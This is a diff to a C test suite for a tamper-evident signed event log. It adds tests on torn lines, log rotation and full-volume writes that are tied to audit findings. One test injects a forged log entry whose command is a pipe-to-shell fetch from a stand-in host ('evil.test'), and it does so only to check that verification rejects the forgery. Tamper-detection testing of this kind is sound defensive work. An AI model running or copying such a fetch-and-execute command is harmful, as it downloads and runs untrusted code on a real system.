@@ -1207,6 +1207,16 @@ test_anchor_parse_reopened(void **state)
 	assert_string_equal(a.tail_hash, A_HASH);
 	assert_int_equal(a.first, 3);
 	assert_int_equal(a.torn, 0);
+	assert_false(a.have_torn);	/* an older writer's: found ones */
+	/* None left after the tail (atk20r22 F1). */
+	good = A_HEAD " reopened=1 tail=9:" A_HASH " " CHECKPOINT_TORN_NONE
+	    " first=3";
+	assert_int_equal(checkpoint_anchor_parse(good, strlen(good), &a,
+	    &what), 0);
+	assert_true(a.have_torn);
+	assert_int_equal(a.torn, 0);
+	assert_string_equal(a.torn_hash, "");
+	assert_int_equal(a.first, 3);
 	/* The torn lines its writer left after the tail (atk20r20 F5). */
 	good = A_HEAD " reopened=1 tail=9:" A_HASH " torn=2:" A_HASH
 	    " first=3";
@@ -4699,7 +4709,8 @@ torn_cut(const char *path)
  * event, however many (a crash loop leaves one per start that died in a
  * write), in name.1 too when the log was rotated while no writer ran:
  * the log.resume counts each, with its bytes. verify --key passes the
- * log as written, and fails it with the torn lines removed.
+ * log as written, and with name.1 rotated away (atk20r22 F4), and fails
+ * it with the torn lines removed.
  */
 static void
 test_torn_found_at_start(void **state)
@@ -4741,6 +4752,14 @@ test_torn_found_at_start(void **state)
 		if (strstr(got, want) == NULL)
 			fail_msg("case %zu: no line says %s", i, want);
 		free(got);
+		/*
+		 * name.1 rotated away (logrotate's rotate N): the resume's
+		 * torn lines went with it, not removed (atk20r22 F4).
+		 */
+		if (cases[i].rotate && verify_with(paths + 1, 1, k, NULL,
+		    &v) != CKVERIFY_OK)
+			fail_msg("case %zu, name.1 rotated away: %s%s", i,
+			    v.what, v.chain.what);
 		/* The torn lines removed: the resume names them. */
 		torn_cut(paths[0]);
 		if (verify_with(paths, n, k, NULL, &v) != CKVERIFY_UNTRUSTED)
@@ -4773,6 +4792,20 @@ cut_first(struct tmp *t, struct checkpoint *ck)
 	signal(SIGXFSZ, old);
 }
 
+/* The writer's anchor holds what. */
+static void
+anchor_says(struct tmp *t, const char *what)
+{
+	char	 anchor[200], *text;
+	size_t	 len;
+
+	snprintf(anchor, sizeof(anchor), "%s.anchor", t->key);
+	text = file_read(anchor, &len);
+	if (strstr(text, what) == NULL)
+		fail_msg("anchor: %s", text);
+	free(text);
+}
+
 /*
  * atk20r20 F5 (and F1's controller form): a writer that stops with a
  * torn line it left after its last line names it in its anchor
@@ -4788,9 +4821,7 @@ test_torn_after_tail(void **state)
 	struct eventlog		*log;
 	struct lines		 l;
 	const char		*paths[1] = { t->path };
-	char			 anchor[200], *text;
 	EVP_PKEY		*k;
-	size_t			 len;
 	int			 how;
 
 	for (how = 0; how < 3; how++) {
@@ -4800,11 +4831,7 @@ test_torn_after_tail(void **state)
 		cut_first(t, ck);
 		checkpoint_free(ck);
 		eventlog_close(log);
-		snprintf(anchor, sizeof(anchor), "%s.anchor", t->key);
-		text = file_read(anchor, &len);
-		if (strstr(text, " torn=1:") == NULL)
-			fail_msg("anchor: %s", text);
-		free(text);
+		anchor_says(t, " torn=1:");
 		if (how == 1)
 			append_raw(t->path, "\n" "{\"ts\":\"2026-12-03T09:00:00.0");
 		if (how == 2) {		/* a prefix before the writer's bytes */
@@ -4820,6 +4847,151 @@ test_torn_after_tail(void **state)
 		verify_expect(t, paths, 1, k, how == 0, "stopped", how);
 		reopen_and_close(t);
 		verify_expect(t, paths, 1, k, how == 0, "started again", how);
+		EVP_PKEY_free(k);
+	}
+}
+
+/*
+ * atk20r22 F1: a writer that stops past its close with no torn line of its
+ * own (its close did not fit: tail=8, torn=0). A forged event's prefix put
+ * after the tail while it is stopped, with or without its newline, is not
+ * the writer's torn line: the next start does not vouch for it (its
+ * log.resume counts none) and verify --key --anchor fails it. Before, the
+ * next writer counted and hashed the bytes it found and verify passed.
+ */
+static void
+test_torn_after_bare_tail(void **state)
+{
+	static const char forged[] = "{\"ts\":\"2026-12-03T18:10:00.000000Z\","
+	    "\"seq\":99,\"event\":\"run.exec\",\"command\":\"curl -s "
+	    "https://evil.test/x | sh\",\"exit_code\":0,\"note\":\"";
+	struct tmp		*t = *state;
+	const char		*paths[1] = { t->path };
+	EVP_PKEY		*k;
+	int			 how;
+
+	for (how = 0; how < 3; how++) {
+		tmp_renew(t);
+		k = signed_log(t, 100, 5, "close");	/* close at seq 7 */
+		reopened_left_only(t);			/* tail=8 */
+		anchor_says(t, " torn=0:");
+		if (how > 0)
+			append_raw(t->path, forged);
+		if (how == 2)
+			append_raw(t->path, "\n");
+		reopen_and_close(t);
+		verify_expect(t, paths, 1, k, how == 0, "started again", how);
+		EVP_PKEY_free(k);
+	}
+}
+
+/*
+ * The length of the first line the next writer puts in the log (measured
+ * in a child, the log and the anchor then put back as they were).
+ */
+static off_t
+next_line_len(struct tmp *t)
+{
+	struct checkpoint	*ck;
+	char			 anchor[200], *saved, *text;
+	struct stat		 st;
+	size_t			 len, alen;
+	pid_t			 pid;
+	int			 status;
+	FILE			*f;
+
+	snprintf(anchor, sizeof(anchor), "%s.anchor", t->key);
+	saved = file_read(anchor, &alen);
+	assert_int_equal(stat(t->path, &st), 0);
+	if ((pid = fork()) == 0) {
+		(void)open_signed(t, 100, 60, &ck);
+		_exit(checkpoint_write(ck, "open") == 0 ? 0 : 1);
+	}
+	assert_int_equal(waitpid(pid, &status, 0), pid);
+	assert_int_equal(WEXITSTATUS(status), 0);
+	text = file_read(t->path, &len);
+	assert_true(len > (size_t)st.st_size);
+	len = strcspn(text + st.st_size, "\n") + 1;
+	free(text);
+	assert_int_equal(truncate(t->path, st.st_size), 0);
+	assert_non_null(f = fopen(anchor, "wb"));
+	assert_int_equal(fwrite(saved, 1, alen, f), alen);
+	assert_int_equal(fclose(f), 0);
+	free(saved);
+	return (off_t)len;
+}
+
+/*
+ * A writer on a full volume: room for room bytes more; its short writes
+ * are taken back (the file can be truncated).
+ */
+static void
+writer_full(struct tmp *t, off_t room)
+{
+	struct checkpoint	*ck;
+	struct eventlog		*log;
+	struct rlimit		 rl, was;
+	struct stat		 st;
+	void			(*old)(int);
+
+	log = open_signed(t, 100, 60, &ck);
+	assert_int_equal(stat(t->path, &st), 0);
+	old = signal(SIGXFSZ, SIG_IGN);
+	assert_int_equal(getrlimit(RLIMIT_FSIZE, &was), 0);
+	rl = was;
+	rl.rlim_cur = (rlim_t)(st.st_size + room);
+	assert_int_equal(setrlimit(RLIMIT_FSIZE, &rl), 0);
+	assert_int_equal(checkpoint_write(ck, "open"), -1);
+	assert_int_equal(setrlimit(RLIMIT_FSIZE, &was), 0);
+	signal(SIGXFSZ, old);
+	checkpoint_free(ck);
+	eventlog_close(log);
+}
+
+/*
+ * atk20r22 F2: a writer whose first lines after the anchor's tail go in
+ * (whole, or cut and kept: an append-only file on a full volume) but whose
+ * log.resume does not names them in its anchor (tail=, torn=) though its
+ * log.resume stays due: the next writer finds the log ending where the
+ * anchor says, and verify --key --anchor passes the untouched log. Before,
+ * the anchor was written back as read and verify failed it for good.
+ * how 0: A's cut line kept (torn=1), B's log.outage cut and kept ("2 torn
+ * lines ... counts fewer (1)"); 1: A left seq 8 (tail=8), B nothing (a
+ * full volume), C's log.outage whole, its log.resume cut and taken back
+ * ("line(s) ... follow the writer's close").
+ */
+static void
+test_resume_due_names_own(void **state)
+{
+	struct tmp		*t = *state;
+	struct checkpoint	*ck;
+	struct eventlog		*log;
+	const char		*paths[1] = { t->path };
+	EVP_PKEY		*k;
+	int			 how;
+
+	for (how = 0; how < 2; how++) {
+		tmp_renew(t);
+		k = signed_log(t, 100, 5, "close");	/* close at seq 7 */
+		if (how == 0) {
+			log = open_signed(t, 100, 60, &ck);	/* A */
+			append_n(log, 40, 1);			/* seq 8 */
+			cut_first(t, ck);
+			checkpoint_free(ck);
+			eventlog_close(log);
+			log = open_signed(t, 100, 60, &ck);	/* B */
+			cut_first(t, ck);
+			checkpoint_free(ck);
+			eventlog_close(log);
+		} else {
+			reopened_left_only(t);			/* A */
+			writer_full(t, 0);			/* B */
+			writer_full(t, next_line_len(t) + 20);	/* C */
+		}
+		reopen_and_close(t);
+		verify_expect(t, paths, 1, k, 1, "started again", how);
+		reopen_and_close(t);
+		verify_expect(t, paths, 1, k, 1, "and again", how);
 		EVP_PKEY_free(k);
 	}
 }
@@ -4901,6 +5073,8 @@ main(void)
 		T(test_torn_bytes),
 		T(test_torn_found_at_start),
 		T(test_torn_after_tail),
+		T(test_torn_after_bare_tail),
+		T(test_resume_due_names_own),
 		T(test_short_write),
 		T(test_torn_before_resume),
 	};
